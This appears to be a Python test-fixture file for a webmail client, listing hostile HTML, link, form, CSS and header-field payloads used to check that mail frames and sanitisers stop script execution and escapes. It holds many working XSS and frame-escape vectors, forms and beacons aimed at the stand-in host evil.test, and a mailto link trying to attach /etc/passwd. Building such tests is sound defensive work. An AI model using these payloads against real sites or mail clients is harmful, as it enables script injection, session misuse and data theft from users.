"""What mallory puts into mail, beside the payloads of `tests.protocol.html_payloads`: each calls `pwn()` if it runs.

`ESCAPES` are for the frame with the sanitiser switched off: they try to get from there into the app around it.
`TEXTS` are for plain text and header fields, where any markup is only letters.
"""

from __future__ import annotations

from tests.protocol.html_payloads import LEAVES, LOADS, RUNS

ESCAPES = (
    # from the frame into its parent, by scripts that must not run
    "<script>parent.pwn()</script>",
    "<script>top.location='https://evil.test/'</script>",
    "<script>parent.document.body.innerHTML=''</script>",
    "<img src=x onerror=parent.pwn()>",
    "<svg onload=top.pwn()>",
    "<iframe srcdoc='<script>top.pwn()</script>'></iframe>",
    "<iframe srcdoc='<script>top.pwn()</script>' sandbox='allow-scripts allow-same-origin'></iframe>",
    "<iframe src='javascript:top.pwn()'></iframe>",
    "<iframe src='data:text/html,<script>top.pwn()</script>'></iframe>",
    "<object data='data:text/html,<script>top.pwn()</script>'></object>",
    "<embed src='data:text/html,<script>top.pwn()</script>'>",
    "<iframe src=/settings/></iframe>",
    "<object data=/settings/></object>",
    # links, pressed: elsewhere in the frame, above it, and beside it in windows that know their opener
    "<a href='javascript:parent.pwn()'>x</a>",
    "<a href='javascript:pwn()' target=_top>x</a>",
    "<a href='javascript:pwn()' target=_parent>x</a>",
    "<a href='javascript:opener.pwn()' target=beside>x</a>",
    "<a href='javascript:opener.top.pwn()' target=beside rel=opener>x</a>",
    "<a href='data:text/html,<script>opener.pwn()</script>' target=_blank rel=opener>x</a>",
    "<a href=/settings/>x</a>",
    "<a href=/sign-in/ target=_top>x</a>",
    "<a href=https://evil.test/ target=_top>x</a>",
    "<a href=https://evil.test/ target=_parent>x</a>",
    "<base target=_top><a href=https://evil.test/>x</a>",
    "<map name=m><area shape=default href='javascript:top.pwn()' target=_top></map><img usemap=#m>",
    "<svg><a xlink:href='javascript:top.pwn()'><text>x</text></a></svg>",
    "<math><mi href='javascript:top.pwn()'>x</mi></math>",
    "<a href='https://xn--80ak6aa92e.test/\" onclick=\"pwn()'>аррӏе.test</a>",
    "<a href='http://example.test@evil.test/' target=_top>x</a>",
    # forms, sent: they would change mail or settings with the person's cookie, or carry it away
    "<form action=/sign-out/ method=post><button>x</button></form>",
    "<form action=/settings/preferences/ method=post><input name=theme value=dark><button>x</button></form>",
    "<form action=https://evil.test/ target=_top><button>x</button></form>",
    "<form action=https://evil.test/ target=beside><button>x</button></form>",
    "<form><button formaction='javascript:top.pwn()'>x</button></form>",
    "<form action='javascript:top.pwn()'><input type=image src=x></form>",
    # by themselves: refreshes, prefetches, beacons
    "<meta http-equiv=refresh content='0;url=javascript:top.pwn()'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>top.pwn()</script>'>",
    "<meta http-equiv=refresh content='0;url=/sign-in/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'><script>pwn()</script>",
    "<link rel=stylesheet href=https://evil.test/a.css>",
    "<link rel=modulepreload href=https://evil.test/a.js>",
    "<link rel=preconnect href=https://evil.test>",
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.test/"]}]}</script>',
    "<img src=//evil.test/a.gif><img srcset='//evil.test/b.gif 2x'>",
    "<video autoplay src=//evil.test/v></video><audio autoplay src=//evil.test/v></audio>",
    "<style>@import '//evil.test/a.css';body{background:url(//evil.test/b.gif)}</style>",
    "<style>@font-face{font-family:e;src:url(//evil.test/f.woff)}body{font-family:e}</style>x",
    "<p style='background:image-set(\"//evil.test/a.gif\" 1x)'>x",
    "<portal src=//evil.test/></portal><fencedframe src=//evil.test/></fencedframe>",
    # what htmx or our own scripts might act on, were the frame their page
    "<div hx-get=/settings/ hx-trigger=load hx-on:load='pwn()' hx-on::after:init='pwn()'>x</div>",
    "<a data-pane=reading href=https://evil.test/>x</a><message-view data-pk=1></message-view>",
)

TEXTS = (
    *(payload for payload in RUNS if payload.isprintable()),
    'http://evil.test/"onmouseover="pwn()',
    "http://evil.test/'onmouseover='pwn()",
    "http://evil.test/?<img src=x onerror=pwn()>",
    'https://evil.test/"><script>pwn()</script>',
    '<https://evil.test/"onfocus=pwn() autofocus x=">',
    "javascript:pwn()",
    "javascript://evil.test/%0apwn()",
    "data:text/html,<script>pwn()</script>",
    'mailto:x@evil.test?subject="><script>pwn()</script>',
    'pwn()@evil.test"onclick=pwn()',
    'www.evil.test/"onclick="pwn()',
    "{{ pwn() }} {% include 'x' %} ${pwn()}",
    "<div hx-on:load=pwn() hx-get=https://evil.test/ hx-trigger=load>",
    "--></script></style></title></textarea><img src=x onerror=pwn()>",
    "]]></pre></body></html><script>pwn()</script>",
    '" autofocus onfocus=pwn() x="',
    "' autofocus onfocus=pwn() x='",
)

# For parts that have a form of their own: calendars, contacts, types of parts, links in header fields.
FIELDS = (
    'X";TYPE=<img src=x onerror=pwn()>:x',
    "=3Cscript=3Epwn()=3C/script=3E",
    "<html><body><svg onload=pwn()></svg></body></html>",
    "mailto:x@evil.test?attach=/etc/passwd&body=<script>pwn()</script>",
    "<javascript:pwn()>, <https://evil.test/>",
    "<data:text/html,<script>pwn()</script>>",
    'cid:x@evil.test"onerror="pwn()',
    "text/html<script>pwn()</script>",
    "image/svg+xml;x=<svg onload=pwn()>",
    'application/pdf"><img src=x onerror=pwn()>',
    "../../<img src=x onerror=pwn()>.html",
    "pass (<img src=x onerror=pwn()>) header.d=evil.test",
    "dns; <script>pwn()</script>",
    "rfc822; <img src=x onerror=pwn()>@evil.test",
    "\\n<img src=x onerror=pwn()>\\,\\;",
    "base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "<bold><param><img src=x onerror=pwn()></param></bold>",
    "[x](javascript:pwn()) ![x](https://evil.test/a.gif)",
    "{\\rtf1 {\\field{\\*\\fldinst HYPERLINK javascript:pwn()}{\\fldrslt x}}}",
    "\u202e<img src=x onerror=pwn()>\u202c",
    "\u2028<script>pwn()</script>\u2029",
    "<a href=javascript:pwn()>+1 555 0100</a>",
    "geo:0,0?q=<img src=x onerror=pwn()>",
)
FRAMED = (*RUNS, *LOADS, *LEAVES, *ESCAPES)
